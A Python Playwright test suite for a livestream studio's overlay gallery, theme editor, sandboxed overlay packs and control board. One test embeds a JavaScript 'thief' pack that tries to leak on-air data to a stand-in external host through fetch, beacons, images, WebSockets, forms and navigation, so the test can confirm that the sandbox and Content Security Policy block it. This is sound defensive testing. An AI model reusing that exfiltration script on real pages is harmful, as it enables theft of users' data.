"""The gallery of overlays, the theme editor, a pack and the board's pane, on one running studio."""

import re
import socket
import time
from contextlib import suppress
from pathlib import Path

import cv2
import numpy as np
import pytest
from playwright.sync_api import expect

from tests.live import DAIRY, LiveStudio

pytestmark = pytest.mark.browser

ROOT = Path(__file__).parents[2]
SHOP = ("composite", "card", "stock", "shoutout", "goal", "countdown", "logo")
TALK = ("caption", "question", "poll", "ticker")
TRUST = ("trace", "honesty", "promises", "miles", "temperature")


@pytest.fixture(scope="module")
def studio(tmp_path_factory):
    """One studio with a live show for all."""
    live = LiveStudio(tmp_path_factory.mktemp("gallery") / "studio").start()
    live.prepare_show()
    yield live
    live.stop()


def url_of(page, name):
    return page.locator(f".address[data-name='{name}'] input.url").input_value()


def export_and_import(page, title, path):
    """A theme of the editor, as a file and back."""
    with page.expect_download() as download:
        page.get_by_role("link", name=f"导出“{title}”").click()
    download.value.save_as(path)
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="导入").click()
    chooser.value.set_files(path)


def test_gallery_builds_addresses_and_shows_samples_or_what_is_live(studio, open_operator):
    page = open_operator(studio, "/overlays")
    assert page.locator(".address:has(iframe)").evaluate_all("all => all.map((one) => one.dataset.name)") == [
        *SHOP,
        *TALK,
        *TRUST,
        "chalkboard",
    ]
    card = page.locator(".address[data-name='card']")
    card.scroll_into_view_if_needed()
    frame = card.frame_locator("iframe")
    expect(frame.locator(".sample-mark")).to_have_text("示例")
    expect(frame.locator("[data-part='name']")).to_have_text("巴氏鲜牛奶")
    assert "safe=" not in url_of(page, "card")
    assert "sample" not in url_of(page, "card")
    page.locator("#platform").select_option(label="抖音")
    page.locator("#background").select_option(label="品红，抠像用")
    page.get_by_label("不要动画").check()
    assert re.search(r"safe=260,170,480,40&background=%23ff00ff&motion=none", url_of(page, "trace"))
    expect(page.locator("#keyed")).to_be_hidden()
    page.locator("#background").select_option("#00b140")
    expect(page.locator("#keyed")).to_contain_text("“证明、真实”的颜色也抠掉")
    expect(page.locator("#keyed .icon")).to_have_css("width", "20px")
    page.locator("#platform").select_option(label="自己填")
    page.locator("#safe-top").fill("300")
    page.locator("#safe-top").blur()
    assert "safe=300,170,480,40" in url_of(page, "trace")
    expect(frame.locator("html")).to_have_attribute("data-chroma", "")
    page.get_by_role("button", name="现在的").click()
    expect(frame.locator(".sample-mark")).to_have_count(0)
    page.get_by_role("button", name="横屏").click()
    expect(page.locator("#platform")).to_be_disabled()
    assert "safe=" not in url_of(page, "trace")
    assert page.locator(".options-table tbody th").all_inner_texts() == [
        "orientation",
        "safe",
        "background",
        "lang",
        "motion",
        "preview",
        "pack",
        "sample",
    ]
    page.set_viewport_size({"width": 390, "height": 844})
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_every_option_that_pages_heed_is_in_the_table():
    """`token` is what lets a page in."""
    heeded = {"token"}
    for path, pattern in (
        *((path, r'options\.(?:get|has)\("(\w+)"\)') for path in (ROOT / "static/js/overlays").glob("*.js")),
        (ROOT / "studio/web/overlay_pages.py", r'request\.args\.get\("(\w+)"'),
        (ROOT / "studio/web/pages.py", r'asked = request\.args\.get\("(lang)"'),
    ):
        heeded |= set(re.findall(pattern, path.read_text("utf-8")))
    table = (ROOT / "studio/web/overlay_catalogue.py").read_text("utf-8").partition("def options")[2]
    assert heeded - {"token"} == set(re.findall(r'\(\s*"(\w+)",\s*"', table))


def test_theme_editor_shows_warns_and_dresses_open_overlays(studio, open_operator, open_overlay, tmp_path):
    air = open_overlay(studio, "composite")
    wear = "getComputedStyle(document.documentElement).getPropertyValue('--card')"
    page = open_operator(studio, "/themes")
    expect(page.locator("#themes li")).to_have_count(1)
    page.get_by_label("名字").fill("黄昏")
    page.get_by_label("卡片底色").fill("#102030")
    expect(page.locator("#contrast li").first).to_contain_text("“文字”在“卡片底色”上看不清")
    preview = page.frame_locator("#preview")
    expect(preview.locator(".card")).to_have_css("background-color", "rgb(16, 32, 48)")
    page.get_by_label("字幕底板").fill("#ffffff")
    expect(page.locator("#contrast")).to_contain_text("“字幕文字”在“字幕底板”上看不清")
    expect(preview.locator(".caption")).to_have_css("background-color", "rgba(255, 255, 255, 0.78)")
    page.get_by_label("字幕底板").fill("#301020")
    page.get_by_label("文字", exact=True).fill("#ffffff")
    expect(page.locator("#contrast")).not_to_contain_text("“文字”在“卡片底色”")
    sign = np.zeros((60, 160, 4), np.uint8)
    sign[:, :, 1:] = 255
    (tmp_path / "sign.png").write_bytes(cv2.imencode(".png", sign)[1].tobytes())
    page.locator("#logo-file").set_input_files(tmp_path / "sign.png")
    expect(page.locator("#logo")).to_be_visible()
    page.get_by_role("button", name="保存").click()
    expect(page.locator("#themes li")).to_have_count(2)
    assert air.evaluate(wear).strip() == "#fffdf8"  # kept, not worn
    row = page.locator("#themes li").filter(has_text="黄昏")
    row.get_by_role("button", name="用这个").click()
    expect(row).to_contain_text("正在用")
    expect(air.locator("html")).to_have_css("--card", "#102030")
    expect(air.locator("html")).to_have_css("--plate", "#301020c7")
    expect(air.locator("[data-overlay='logo']")).to_be_visible()
    export_and_import(page, "黄昏", tmp_path / "dusk.theme.css")
    expect(page.locator("#themes li")).to_have_count(3)
    row.first.get_by_role("button", name="删除“黄昏”").click()
    page.locator("dialog").get_by_role("button", name="删除").click()
    expect(page.locator("#themes li")).to_have_count(2)
    expect(air.locator("html")).to_have_css("--card", "#fffdf8")
    page.set_viewport_size({"width": 390, "height": 844})
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_pack_is_drawn_from_what_it_is_given_and_reaches_nothing_else(studio, chromium):
    # a browser of its own: what is refused is told on the console
    page = chromium.new_page(viewport={"width": 1080, "height": 1920}, reduced_motion="reduce")
    page.goto(studio.overlay_url("pack", pack="chalkboard"))
    frame = page.frame_locator("iframe.pack")
    expect(frame.locator("#name")).to_have_text("巴氏鲜牛奶")
    expect(frame.locator("#left")).to_contain_text("还有")
    box = frame.locator("#board").bounding_box()
    assert (box["x"], box["y"] + box["height"]) == pytest.approx((40, 1440), abs=1)
    inner = page.frames[1]
    assert inner.evaluate("self.origin") == "null"
    assert inner.evaluate("fetch('/healthz').then(() => 'reached', () => 'refused')") == "refused"
    assert inner.evaluate("(() => { try { return document.cookie } catch { return 'refused' } })()") == "refused"
    assert inner.evaluate("(() => { try { return parent.location.search } catch { return 'refused' } })()") == "refused"
    page.close()


THIEF = """
addEventListener("message", ({ data }) => {
  if (data.type !== "topic" || data.value === null) return;
  const away = "ELSEWHERE/?" + encodeURIComponent(JSON.stringify(data.value)).slice(0, 500);
  fetch(away, { mode: "no-cors" }).catch(() => {});
  new Image().src = away;
  navigator.sendBeacon?.(away);
  try { top.location = away; } catch {}
  try { open(away); } catch {}
  try { new WebSocket(away.replace("http", "ws")); } catch {}
  const form = document.body.appendChild(document.createElement("form"));
  form.action = away;
  try { form.submit(); } catch {}
  document.title = "tried";
  location.href = away;
});
parent.postMessage({ type: "ready" }, "*");
"""


def write_pack(studio, name, script):
    folder = studio.data_dir / "packs" / name
    folder.mkdir(parents=True)
    (folder / "pack.toml").write_text(f'title = "{name}"\ntopics = ["product"]\n', "utf-8")
    (folder / "index.html").write_text("<!doctype html><body><script src=pack.js></script>", "utf-8")
    (folder / "pack.js").write_text(script, "utf-8")


@pytest.fixture
def stage(tmp_path):
    """A studio of the test's own, with a product on air."""
    live = LiveStudio(tmp_path / "stage").start()
    live.prepare_show()
    yield live
    live.stop()


def test_a_pack_that_steals_gets_nothing_out(stage, chromium):
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        elsewhere.setblocking(False)
        write_pack(stage, "thief", THIEF.replace("ELSEWHERE", f"http://127.0.0.1:{elsewhere.getsockname()[1]}"))
        write_pack(stage, "burglar", THIEF.replace("ELSEWHERE", f"{stage.url}/api/v1/openapi.json"))
        for name in ("thief", "burglar"):
            page = chromium.new_page(viewport={"width": 1080, "height": 1920}, reduced_motion="reduce")
            with page.expect_console_message(lambda message: message.text.startswith("Framing")) as refused:
                page.goto(stage.overlay_url("pack", pack=name))
            assert "Content Security Policy" in refused.value.text
            assert page.url.startswith(f"{stage.url}/overlay/pack?")
            page.close()
        while True:  # a browser connects before it refuses, and says nothing
            try:
                visit = elsewhere.accept()[0]
            except BlockingIOError:
                break
            with visit, suppress(BlockingIOError):
                visit.setblocking(False)
                assert visit.recv(1) == b""


def test_a_pack_that_fails_is_told_in_previews_and_not_on_air(stage, chromium):
    write_pack(stage, "failing", "throw new Error('oh')")
    page = chromium.new_page(viewport={"width": 1080, "height": 1920}, reduced_motion="reduce")
    page.goto(stage.overlay_url("pack", pack="failing", preview=1))
    expect(page.locator(".pack-silent")).to_contain_text("按 F12")
    page.goto(stage.overlay_url("pack", pack="failing"))
    page.wait_for_selector("html[data-link=live]", state="attached")
    assert page.locator(".pack-silent").count() == 0
    page.goto(stage.overlay_url("pack", pack="chalkboard", preview=1))
    expect(page.frame_locator("iframe.pack").locator("#name")).to_have_text("巴氏鲜牛奶")
    expect(page.locator(".pack-silent")).to_be_hidden()
    page.close()


def test_a_themes_draft_is_lost_only_by_who_says_so(stage, open_operator, tmp_path):
    for name, title in (("dawn", "清晨"), ("dusk", "黄昏")):
        stage.call("PUT", f"/themes/{name}", {"title": title, "colours": {"--card": "#102030"}})
    page = open_operator(stage, "/themes")
    asked = []
    answer = {"beforeunload": "dismiss"}
    page.on("dialog", lambda dialog: (asked.append(dialog.type), getattr(dialog, answer[dialog.type])()))
    title = page.get_by_label("名字")
    dialog = page.get_by_role("dialog")

    def choose(name):
        page.locator("#themes").get_by_role("button", name=name, exact=True).first.click()

    # nothing changed, or changed and back: nobody asks
    choose("黄昏")
    expect(title).to_have_value("黄昏")
    title.fill("黄")
    title.fill("黄昏")
    choose("清晨")
    expect(title).to_have_value("清晨")
    page.reload()
    assert not asked

    # changed: another theme asks first, also one that is brought in, and what stays is the draft
    choose("清晨")
    title.fill("早晨")
    page.get_by_label("卡片底色").fill("#ffeedd")
    choose("黄昏")
    expect(dialog).to_contain_text("还没有保存")
    dialog.get_by_role("button", name="取消").click()
    expect(title).to_have_value("早晨")
    expect(page.get_by_label("卡片底色")).to_have_value("#ffeedd")
    export_and_import(page, "黄昏", tmp_path / "dusk.theme.css")
    dialog.get_by_role("button", name="取消").click()
    expect(page.locator("#themes li")).to_have_count(4)
    expect(title).to_have_value("早晨")
    assert not asked
    with page.expect_event("dialog"):
        page.locator("main").get_by_role("link", name="叠加画面").click()
    assert asked == ["beforeunload"]
    expect(title).to_have_value("早晨")

    # saved: nobody asks any more
    page.get_by_role("button", name="保存").click()
    expect(page.locator("#themes")).to_contain_text("早晨")
    choose("黄昏")
    expect(title).to_have_value("黄昏")

    # given up: the other theme is there, and the draft is no longer asked about
    page.get_by_role("button", name="恢复自带的样子").click()
    choose("早晨")
    dialog.get_by_role("button", name="放弃修改").click()
    expect(title).to_have_value("早晨")
    page.reload()
    assert asked == ["beforeunload"]


def test_a_theme_picked_while_another_is_saved_stays_the_one_that_is_edited(stage, open_operator):
    for name, title in (("dawn", "清晨"), ("dusk", "黄昏")):
        stage.call("PUT", f"/themes/{name}", {"title": title})
    page = open_operator(stage, "/themes")
    pick = page.locator("#themes .theme-pick")
    pick.filter(has_text="清晨").click()
    page.get_by_label("名字").fill("早晨")
    held = []
    page.route("**/api/v1/themes/dawn", lambda route: held.append(route))  # noqa: PLW0108 - Playwright marks its handlers
    with page.expect_request("**/api/v1/themes/dawn"):
        page.get_by_role("button", name="保存").click()
    pick.filter(has_text="黄昏").click()
    page.get_by_role("dialog").get_by_role("button", name="放弃修改").click()
    expect(page.get_by_label("名字")).to_have_value("黄昏")
    held[0].continue_()
    expect(pick.filter(has_text="早晨")).to_have_attribute("aria-pressed", "false")
    expect(page.locator("#save")).not_to_have_attribute("aria-busy", "true")
    expect(pick.filter(has_text="黄昏")).to_have_attribute("aria-pressed", "true")
    page.get_by_label("名字").fill("傍晚")
    page.get_by_role("button", name="保存").click()
    expect(pick).to_have_text(["邻里集市", "早晨", "傍晚"])


def test_theme_editor_cuts_nothing_off_on_a_phone(stage, open_operator):
    stage.call("PUT", "/themes/dusk", {"title": "黄昏时分在院子里的灯下慢慢聊的那一套"})
    page = open_operator(stage, "/themes", viewport=(390, 844), locale="en-US")
    row = page.locator("#themes li").filter(has_text="黄昏")
    tops = row.locator(".theme-pick ~ *").evaluate_all("all => all.map((one) => one.getBoundingClientRect().top)")
    assert len(tops) == 3
    assert len(set(tops)) == 1
    swatches = page.locator(".swatches").evaluate_all("all => all.map((one) => one.offsetWidth)")
    assert swatches == [66, 66]
    spare = """selects => selects.map((select) => {
      const free = select.cloneNode(true);
      free.value = select.value;
      free.style.width = "max-content";
      select.parentElement.append(free);
      const wide = free.offsetWidth;
      free.remove();
      return select.offsetWidth - wide;
    })"""
    font, motion = page.locator(".theme-row select").evaluate_all(spare)
    assert font >= 0
    assert motion >= 0
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_board_pane_puts_on_screen_and_undoes(studio, open_operator, open_overlay):
    air = open_overlay(studio, "composite")
    page = open_operator(studio, "/control")
    page.locator("#tab-board").click()
    goal = page.locator(".board-part[data-part='goal']")
    goal.get_by_role("button", name="放上去").click()
    dialog = page.locator("dialog")
    dialog.get_by_label("标题").fill("今晚一百户")
    dialog.get_by_label("到多少").fill("100")
    dialog.get_by_role("button", name="放上去").click()
    expect(goal).to_contain_text("0 / 100 户")
    expect(air.locator(".goal")).to_contain_text("今晚一百户")
    studio.order("goal-1")
    expect(air.locator("[data-part='goal-count']")).to_have_text("1")
    goal.get_by_role("button", name="拿掉").click()
    expect(air.locator(".goal")).to_be_hidden()
    goal.get_by_role("button", name="撤销").click()
    expect(air.locator(".goal")).to_be_visible()
    page.get_by_role("button", name="溯源").click()
    expect(air.locator(".trace")).to_be_visible()
    expect(air.locator(".card")).to_have_css("visibility", "hidden")
    page.locator(".board-part[data-part='countdown']").get_by_role("button", name="放上去").click()
    dialog.get_by_role("button", name="10 分钟后").click()
    dialog.get_by_role("button", name="开始").click()
    expect(air.locator("[data-part='countdown-left']")).to_have_text(re.compile(r"^(10|9):\d\d$"))
    page.locator(".board-part[data-part='ticker']").get_by_role("button", name="放上去").click()
    dialog.get_by_label("一行一条").fill("写好楼号\n明天下午送到")
    dialog.get_by_role("button", name="放上去").click()
    expect(air.locator(".ticker")).to_contain_text("写好楼号")
    now = round(time.time() * 1000)
    readings = [{"at": now - index * 600_000, "celsius": 4.0} for index in range(6)]
    studio.call("POST", f"/lots/MILK-950/{DAIRY[0]['batch']}/temperatures", {"readings": readings}, role="agent")
    page.get_by_role("button", name="冷链").click()
    expect(air.locator("[data-part='verdict-word']")).to_have_text("合格")
    assert air.locator(".temperature .curve-line").get_attribute("d").count("L") == 5
    page.locator(".board-part[data-part='countdown']").get_by_role("button", name="拿掉").click()
    expect(air.locator(".countdown")).to_be_hidden()
